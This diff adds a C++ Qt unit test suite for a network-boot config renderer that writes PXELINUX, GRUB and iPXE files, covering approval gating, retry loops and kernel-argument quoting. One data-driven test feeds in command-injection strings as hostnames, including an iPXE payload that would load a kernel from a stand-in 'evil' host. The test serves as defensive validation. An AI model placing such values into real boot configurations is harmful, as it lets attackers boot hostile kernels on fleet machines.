@@ -1,0 +1,327 @@
+#include "core/boot/LoaderConfig.h"
+#include "tests/unit/core/boot/BootFixture.h"
+#include "tests/unit/core/boot/GoldenFile.h"
+
+#include <QTest>
+
+using namespace rackmuster;
+using namespace rackmuster::boot;
+using namespace rackmuster::tests;
+
+namespace {
+
+ServerIdentity server() {
+    return rack().server;
+}
+
+MachineBoot localMachine() {
+    MachineBoot machine = approvedMachine(1);
+    machine.disposition = Disposition::LocalDisk;
+    return machine;
+}
+
+MachineBoot brieflyParked() {
+    MachineBoot machine = parkedMachine(1);
+    machine.parksBriefly = true;
+    return machine;
+}
+
+std::vector<std::string> everyRendering(const MachineBoot& machine, const ImageFiles* image) {
+    return {renderPxelinux(machine, image, server()),
+            renderPxelinux(machine, image, server(), 0),
+            renderPxelinux(machine, image, server(), 1),
+            renderGrub(machine, image, server()),
+            renderGrubState(machine, image),
+            renderIpxe(machine, image, server())};
+}
+
+bool contains(const std::string& text, std::string_view part) {
+    return text.find(part) != std::string::npos;
+}
+
+ImageFiles redHat(const std::string& version) {
+    ImageFiles image = rockyImage();
+    image.version = version;
+    return image;
+}
+
+} // namespace
+
+class TestLoaderConfig : public QObject {
+    Q_OBJECT
+
+private Q_SLOTS:
+    void rendersTextForText_data();
+    void rendersTextForText();
+    void neverNamesAKernelUnlessApproved();
+    void namesNoKernelWithoutImageOrTicket();
+    void installsOnlyWithEverythingAtHand();
+    void parkedScreensShowSlotNameAndMac();
+    void parkedScreensSayWhenThereIsNoSlot();
+    void everyParkedLoaderAsksAgain();
+    void pxelinuxStartsAnewBeforeItRunsOut();
+    void briefParkingEndsOnTheLocalDisk();
+    void grubStateTellsWhenToGoOn();
+    void textOfOthersCannotBecomeACommand_data();
+    void textOfOthersCannotBecomeACommand();
+    void redHatArgumentsFollowTheRelease_data();
+    void redHatArgumentsFollowTheRelease();
+    void debianArgumentsNameTheMirror();
+    void debianLeavesOutAnEmptyName();
+    void extraArgumentsComeLast();
+    void pxelinuxAddsBootifItself();
+    void portsOtherThan80AreNamedEverywhere();
+    void grubQuotesArguments();
+};
+
+void TestLoaderConfig::rendersTextForText_data() {
+    QTest::addColumn<int>("disposition");
+    QTest::newRow("parked") << 0;
+    QTest::newRow("parked-briefly") << 1;
+    QTest::newRow("install") << 2;
+    QTest::newRow("local") << 3;
+}
+
+void TestLoaderConfig::rendersTextForText() {
+    QFETCH(int, disposition);
+    const std::array machines{parkedMachine(1), brieflyParked(), approvedMachine(1), localMachine()};
+    const MachineBoot& machine = machines[static_cast<std::size_t>(disposition)];
+    const ImageFiles image = rockyImage();
+    const QString tag = QString::fromLatin1(QTest::currentDataTag());
+    const std::vector<std::pair<QString, std::string>> files{
+        {QStringLiteral("loader/pxelinux-%1.cfg").arg(tag), renderPxelinux(machine, &image, server())},
+        {QStringLiteral("loader/grub-%1.cfg").arg(tag), renderGrub(machine, &image, server())},
+        {QStringLiteral("loader/%1.ipxe").arg(tag), renderIpxe(machine, &image, server())}};
+    for (const auto& [name, text] : files) {
+        const QString difference = differenceToGolden(name, text);
+        QVERIFY2(difference.isEmpty(), qPrintable(name + QStringLiteral(": ") + difference));
+    }
+}
+
+// R42: the promise that nothing is wiped without an approval.
+void TestLoaderConfig::neverNamesAKernelUnlessApproved() {
+    const ImageFiles image = rockyImage();
+    MachineBoot refused = approvedMachine(1);
+    refused.disposition = Disposition::Refused;
+    for (MachineBoot machine : {parkedMachine(1), brieflyParked(), localMachine(), refused}) {
+        machine.ticket = ticket;
+        machine.imageId = image.id;
+        machine.kernelArguments = "inst.text";
+        for (const std::string& text : everyRendering(machine, &image)) {
+            QVERIFY2(!hasKernelLine(text), text.c_str());
+            QVERIFY2(!contains(text, ticket), text.c_str());
+            QVERIFY2(!contains(text, "inst."), text.c_str());
+        }
+    }
+    // The scanner itself sees a kernel where there is one.
+    for (const std::string& text :
+         {renderPxelinux(approvedMachine(1), &image, server()),
+          renderGrub(approvedMachine(1), &image, server()), renderIpxe(approvedMachine(1), &image, server())})
+        QVERIFY(hasKernelLine(text));
+}
+
+void TestLoaderConfig::namesNoKernelWithoutImageOrTicket() {
+    for (const std::string& text : everyRendering(approvedMachine(1), nullptr))
+        QVERIFY(!hasKernelLine(text));
+    const ImageFiles image = rockyImage();
+    MachineBoot machine = approvedMachine(1);
+    machine.ticket.clear();
+    for (const std::string& text : everyRendering(machine, &image))
+        QVERIFY(!hasKernelLine(text));
+    QCOMPARE(kernelArguments(machine, image, server()), std::string());
+}
+
+void TestLoaderConfig::installsOnlyWithEverythingAtHand() {
+    ImageFiles image = rockyImage();
+    QCOMPARE(renderedDisposition(approvedMachine(1), &image), Disposition::Install);
+    QCOMPARE(renderedDisposition(approvedMachine(1), nullptr), Disposition::Parked);
+    image.initrdPath.clear();
+    QCOMPARE(renderedDisposition(approvedMachine(1), &image), Disposition::Parked);
+    QCOMPARE(renderedDisposition(localMachine(), nullptr), Disposition::LocalDisk);
+}
+
+void TestLoaderConfig::parkedScreensShowSlotNameAndMac() {
+    const MachineBoot machine = parkedMachine(1);
+    for (const std::string& text : {renderPxelinuxScreen(machine), renderGrub(machine, nullptr, server()),
+                                    renderIpxe(machine, nullptr, server())}) {
+        QVERIFY2(contains(text, "SLOT 12  node-12  WAITING FOR APPROVAL  52:54:00:00:00:01"), text.c_str());
+        QVERIFY2(contains(text, "##########"), text.c_str()); // the large digits
+    }
+}
+
+void TestLoaderConfig::parkedScreensSayWhenThereIsNoSlot() {
+    MachineBoot machine{.mac = mac(1)};
+    for (const std::string& text : {renderPxelinuxScreen(machine), renderGrub(machine, nullptr, server()),
+                                    renderIpxe(machine, nullptr, server())})
+        QVERIFY2(contains(text, "NO SLOT YET  WAITING FOR APPROVAL  52:54:00:00:00:01"), text.c_str());
+}
+
+void TestLoaderConfig::everyParkedLoaderAsksAgain() {
+    const MachineBoot machine = parkedMachine(1);
+    const std::string pxelinux = renderPxelinux(machine, nullptr, server());
+    QVERIFY(pxelinux.starts_with("SERIAL 0 115200\n"));
+    for (const char* const line :
+         {"\nDEFAULT again\n", "\nPROMPT 1\n", "\nTIMEOUT 50\n", "\nONTIMEOUT again\n", "\nIMPLICIT 0\n",
+          "\nTOTALTIMEOUT 300\n", "\n  CONFIG pxelinux.cfg/wait-59\n", "\nDISPLAY pxelinux.cfg/screen\n"})
+        QVERIFY2(contains(pxelinux, line), line);
+    QVERIFY(!contains(pxelinux, "LOCALBOOT"));
+
+    const std::string grub = renderGrub(machine, nullptr, server());
+    QVERIFY(contains(grub, "source (tftp,192.168.0.251)/m/525400000001/grub/state.cfg"));
+    QVERIFY(contains(grub, "sleep 5"));
+    QVERIFY(!contains(grub, "exit"));
+
+    const std::string ipxe = renderIpxe(machine, nullptr, server());
+    QVERIFY(contains(ipxe, "chain --replace http://192.168.0.251/m/525400000001/boot.ipxe || goto wait"));
+    QVERIFY(!contains(ipxe, "sanboot"));
+    QVERIFY(!contains(ipxe, "exit"));
+}
+
+void TestLoaderConfig::pxelinuxStartsAnewBeforeItRunsOut() {
+    const std::string last = renderPxelinux(parkedMachine(1), nullptr, server(), 0);
+    QVERIFY2(contains(last, "\n  PXE pxelinux.0\n"), last.c_str());
+    QVERIFY(!contains(last, "CONFIG"));
+    QVERIFY(!contains(last, "LOCALBOOT"));
+}
+
+void TestLoaderConfig::briefParkingEndsOnTheLocalDisk() {
+    const MachineBoot machine = brieflyParked();
+    QVERIFY(contains(renderPxelinux(machine, nullptr, server()), "CONFIG pxelinux.cfg/wait-11\n"));
+    QVERIFY(contains(renderPxelinux(machine, nullptr, server(), 1), "CONFIG pxelinux.cfg/wait-0\n"));
+    QVERIFY(contains(renderPxelinux(machine, nullptr, server(), 0), "LOCALBOOT 0\n"));
+    QVERIFY(contains(renderGrub(machine, nullptr, server()), "for step in 12 11 10 9 8 7 6 5 4 3 2 1; do"));
+    QVERIFY(contains(renderGrub(machine, nullptr, server()), "exit 1\n"));
+    QVERIFY(contains(renderIpxe(machine, nullptr, server()), "iseq ${waited} 12 && goto local ||"));
+    QVERIFY(contains(renderIpxe(machine, nullptr, server()), "sanboot --no-describe --drive 0x80"));
+}
+
+void TestLoaderConfig::grubStateTellsWhenToGoOn() {
+    const ImageFiles image = rockyImage();
+    QCOMPARE(renderGrubState(parkedMachine(1), &image), std::string("set state=parked\n"));
+    QCOMPARE(renderGrubState(approvedMachine(1), nullptr), std::string("set state=parked\n"));
+    QCOMPARE(renderGrubState(approvedMachine(1), &image), std::string("set state=go\n"));
+    QCOMPARE(renderGrubState(localMachine(), &image), std::string("set state=go\n"));
+}
+
+void TestLoaderConfig::textOfOthersCannotBecomeACommand_data() {
+    QTest::addColumn<QByteArray>("text");
+    QTest::newRow("line break") << QByteArray("x\nlinux /vmlinuz");
+    QTest::newRow("carriage return") << QByteArray("x\rKERNEL vmlinuz");
+    QTest::newRow("grub separators") << QByteArray("x'; linux /vmlinuz; echo '");
+    QTest::newRow("grub substitution") << QByteArray("$(kernel)${state}");
+    QTest::newRow("iPXE operators") << QByteArray("x && kernel http://evil/vmlinuz ||");
+    QTest::newRow("iPXE settings") << QByteArray("${net0/mac}");
+    QTest::newRow("NUL") << QByteArray("x\0kernel y", 10);
+    QTest::newRow("not ASCII") << QByteArray("\xE4\xB8\x80\xE2\x80\xAE");
+}
+
+// R57
+void TestLoaderConfig::textOfOthersCannotBecomeACommand() {
+    QFETCH(QByteArray, text);
+    MachineBoot plain = parkedMachine(1);
+    plain.slotLabel = "A";
+    plain.hostname = "b";
+    MachineBoot odd = plain;
+    odd.slotLabel = odd.hostname = text.toStdString();
+    const auto lines = [](const std::string& config) {
+        return std::count(config.begin(), config.end(), '\n');
+    };
+    const std::vector<std::string> expected = everyRendering(plain, nullptr);
+    const std::vector<std::string> actual = everyRendering(odd, nullptr);
+    for (std::size_t i = 0; i < expected.size(); ++i) {
+        QCOMPARE(lines(actual[i]), lines(expected[i]));
+        for (const char c : actual[i])
+            QVERIFY(c == '\n' || c == '\f' || (c >= ' ' && c <= '~'));
+        const std::string_view screen = std::string_view(actual[i]).substr(0, actual[i].find("WAITING"));
+        QVERIFY(screen.find("&&") == std::string_view::npos);
+        QVERIFY(screen.find("${") == std::string_view::npos);
+        QVERIFY(std::count(screen.begin(), screen.end(), '\'') <= 1);
+    }
+}
+
+void TestLoaderConfig::redHatArgumentsFollowTheRelease_data() {
+    QTest::addColumn<QByteArray>("version");
+    QTest::addColumn<bool>("isOld");
+    QTest::newRow("RHEL 5") << QByteArray("5.11") << true;
+    QTest::newRow("RHEL 6") << QByteArray("6.10") << true;
+    QTest::newRow("RHEL 7") << QByteArray("7") << false;
+    QTest::newRow("RHEL 9") << QByteArray("9.4") << false;
+    QTest::newRow("RHEL 10") << QByteArray("10.0") << false;
+    QTest::newRow("Fedora") << QByteArray("40") << false;
+    QTest::newRow("no number") << QByteArray("Rawhide") << false;
+    QTest::newRow("empty") << QByteArray("") << false;
+}
+
+// P80
+void TestLoaderConfig::redHatArgumentsFollowTheRelease() {
+    QFETCH(QByteArray, version);
+    QFETCH(bool, isOld);
+    const std::string line = kernelArguments(approvedMachine(1), redHat(version.toStdString()), server());
+    const std::string answer = "http://192.168.0.251/t/" + ticket + "/answer";
+    const std::string repo = "http://192.168.0.251/m/525400000001/repo";
+    if (isOld) {
+        QCOMPARE(line, "ks=" + answer + " repo=" + repo +
+                           " kssendmac kssendsn ksdevice=52:54:00:00:00:01 ip=dhcp "
+                           "BOOTIF=01-52-54-00-00-00-01 console=tty0");
+    } else {
+        QCOMPARE(line,
+                 "inst.ks=" + answer + " inst.repo=" + repo +
+                     " inst.ks.sendmac inst.ks.sendsn ip=dhcp BOOTIF=01-52-54-00-00-00-01 console=tty0");
+    }
+}
+
+void TestLoaderConfig::debianArgumentsNameTheMirror() {
+    ServerIdentity other = server();
+    other.httpPort = 8080;
+    QCOMPARE(kernelArguments(approvedMachine(1), debianImage(), other),
+             "auto=true priority=critical url=http://192.168.0.251:8080/t/" + ticket +
+                 "/answer interface=auto hostname=node-12 domain= mirror/country=manual mirror/protocol=http "
+                 "mirror/http/hostname=192.168.0.251:8080 mirror/http/directory=/m/525400000001/repo "
+                 "mirror/http/proxy= "
+                 "mirror/suite=bookworm BOOTIF=01-52-54-00-00-00-01 console=tty0");
+}
+
+void TestLoaderConfig::debianLeavesOutAnEmptyName() {
+    MachineBoot machine = approvedMachine(1);
+    machine.hostname.clear();
+    const std::string line = kernelArguments(machine, debianImage(), server());
+    QVERIFY(!contains(line, " hostname="));
+    QVERIFY(contains(line, " domain= "));
+}
+
+void TestLoaderConfig::extraArgumentsComeLast() {
+    MachineBoot machine = approvedMachine(1);
+    machine.kernelArguments = " console=ttyS0,115200\n inst.text ";
+    const std::string line = kernelArguments(machine, rockyImage(), server());
+    QVERIFY(line.ends_with(" console=tty0 console=ttyS0,115200  inst.text"));
+}
+
+// R18
+void TestLoaderConfig::pxelinuxAddsBootifItself() {
+    const ImageFiles image = rockyImage();
+    const std::string text = renderPxelinux(approvedMachine(1), &image, server());
+    QVERIFY(!contains(text, "BOOTIF"));
+    QVERIFY(contains(text, "\n  IPAPPEND 2\n"));
+    QVERIFY(contains(renderGrub(approvedMachine(1), &image, server()), "BOOTIF=01-52-54-00-00-00-01"));
+    QVERIFY(contains(renderIpxe(approvedMachine(1), &image, server()), "BOOTIF=01-52-54-00-00-00-01"));
+}
+
+void TestLoaderConfig::portsOtherThan80AreNamedEverywhere() {
+    ServerIdentity other = server();
+    other.httpPort = 8080;
+    const ImageFiles image = rockyImage();
+    const std::string grub = renderGrub(approvedMachine(1), &image, other);
+    QVERIFY(contains(grub, "linux (http,192.168.0.251:8080)/m/525400000001/vmlinuz"));
+    QVERIFY(contains(grub, "linux (tftp,192.168.0.251)/m/525400000001/vmlinuz"));
+    QVERIFY(!contains(renderIpxe(approvedMachine(1), &image, other), "http://192.168.0.251/"));
+}
+
+void TestLoaderConfig::grubQuotesArguments() {
+    const ImageFiles image = rockyImage();
+    MachineBoot machine = approvedMachine(1);
+    machine.kernelArguments = "a=b;c d=$e f='g'";
+    QVERIFY(contains(renderGrub(machine, &image, server()), " 'a=b;c' 'd=$e' 'f='\\''g'\\'''; then"));
+}
+
+QTEST_APPLESS_MAIN(TestLoaderConfig)
+#include "tst_LoaderConfig.moc"
